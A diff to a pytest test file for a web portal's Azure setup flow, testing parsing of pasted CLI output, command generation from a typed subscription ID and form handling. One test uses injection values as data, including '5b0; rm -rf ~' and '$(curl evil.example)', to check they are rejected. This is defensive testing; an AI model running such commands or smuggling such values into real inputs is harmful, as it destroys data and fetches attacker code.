@@ -1,5 +1,6 @@
 """The one-command setup: the commands offered, and what they print read back into the form."""
 
+import io
 import json
 
 import pytest
@@ -7,7 +8,7 @@ import pytest
 from fake_azure import scenarios as azure
 from portal import fast_path
 
-from .conftest import csrf_token, submit
+from .conftest import VALID_ACCOUNT, add_account, csrf_token, submit
 
 # What the CLI prints around the JSON in Cloud Shell's terminal.
 WARNING = (
@@ -59,8 +60,21 @@ def test_the_sdk_auth_format_of_older_guides_is_read_too():
         ("the secret is Good8Q~ValidSecretValue", "This is not what the command printed"),
         ('["a", "list"]', "This is not what the command printed"),
         ("{not json}", "This is not what the command printed"),
+        ('{"a":' + "[" * 1000 + "]" * 1000 + "}", "This is not what the command printed"),
+        (command_output(secret="\ud800"), "has no password"),
+        (command_output(tenant="c0ffee00\u0000"), "has no tenant"),
     ],
-    ids=["no password", "no tenant or app", "a number", "words", "a list", "broken"],
+    ids=[
+        "no password",
+        "no tenant or app",
+        "a number",
+        "words",
+        "a list",
+        "broken",
+        "nested deep",
+        "a lone surrogate",
+        "a control character",
+    ],
 )
 def test_partial_or_foreign_output_is_named_for_what_it_lacks(text, message):
     with pytest.raises(fast_path.OutputError, match=message):
@@ -70,10 +84,14 @@ def test_partial_or_foreign_output_is_named_for_what_it_lacks(text, message):
 def test_the_commands_use_a_typed_subscription_id_and_nothing_else_typed():
     typed = fast_path.commands(azure.SUB_READY.upper())
     assert typed.splitlines()[0] == f"SUBSCRIPTION_ID={azure.SUB_READY}"
-    for anything_else in ("", "5b0; rm -rf ~", "$(curl evil.example)"):
+    nil = "00000000-0000-0000-0000-000000000000"
+    for anything_else in ("", "5b0; rm -rf ~", "$(curl evil.example)", nil):
         first = fast_path.commands(anything_else).splitlines()[0]
         assert first == "SUBSCRIPTION_ID=$(az account show --query id -o tsv)"
     assert "--role Contributor" in typed and '--scopes "/subscriptions/$SUBSCRIPTION_ID"' in typed
+    # A name of its own per subscription: for an existing app's name, create-for-rbac deletes
+    # that app's passwords, which would break another account's stored secret.
+    assert '--name "ColdSend-${SUBSCRIPTION_ID:0:8}"' in typed
 
 
 def test_verify_with_only_the_pasted_output_saves_every_value(customer):
@@ -132,3 +150,51 @@ def test_a_paste_of_something_else_says_what_is_wrong(customer):
 
     assert "This is not what the command printed" in response.text
     assert "hx-swap-oob" not in response.text
+
+
+def test_a_second_paste_replaces_the_first_ones_values_but_not_a_typed_name(customer):
+    first = command_output(name="First")
+    second = command_output(appId=azure.APP_READER, subscription=azure.SUB_WARNED)
+    values = fast_path.read(first)
+    response = customer.post(
+        "/accounts/command-output",
+        data={
+            **values,
+            "name": "Mine",
+            "tenant_id": "a typo",
+            "command_output": second,
+            "csrf_token": csrf_token(customer, "/accounts/new"),
+        },
+    )
+
+    page = response.text
+    assert f'value="{azure.APP_READER}"' in page and f'value="{azure.SUB_WARNED}"' in page
+    assert f'value="{azure.TENANT}"' in page  # the typo replaced
+    assert 'id="name-field"' not in page
+
+
+def test_a_paste_on_the_edit_page_replaces_the_ids_and_keeps_the_secret_optional(customer):
+    account_id = add_account(customer)
+    response = customer.post(
+        f"/accounts/{account_id}/command-output",
+        data={
+            "command_output": command_output(),
+            "csrf_token": csrf_token(customer, f"/accounts/{account_id}/edit"),
+        },
+    )
+
+    assert f'value="{azure.APP_CONTRIBUTOR}"' in response.text
+    assert "Leave empty to keep the stored secret" in response.text
+    assert "required" not in response.text.split('id="client_secret-field"')[1].split("</div>")[0]
+
+
+@pytest.mark.reliability("a file sent under a form field's name", "treated as absent, no 500")
+def test_a_file_in_place_of_a_field_is_as_good_as_absent(customer):
+    token = csrf_token(customer, "/accounts/new")
+    for field in ("name", "client_secret", "command_output"):
+        response = customer.post(
+            "/accounts/new",
+            data={**VALID_ACCOUNT, field: (io.BytesIO(b"x"), "x.txt"), "csrf_token": token},
+            content_type="multipart/form-data",
+        )
+        assert response.status_code in (303, 422), (field, response.status_code)
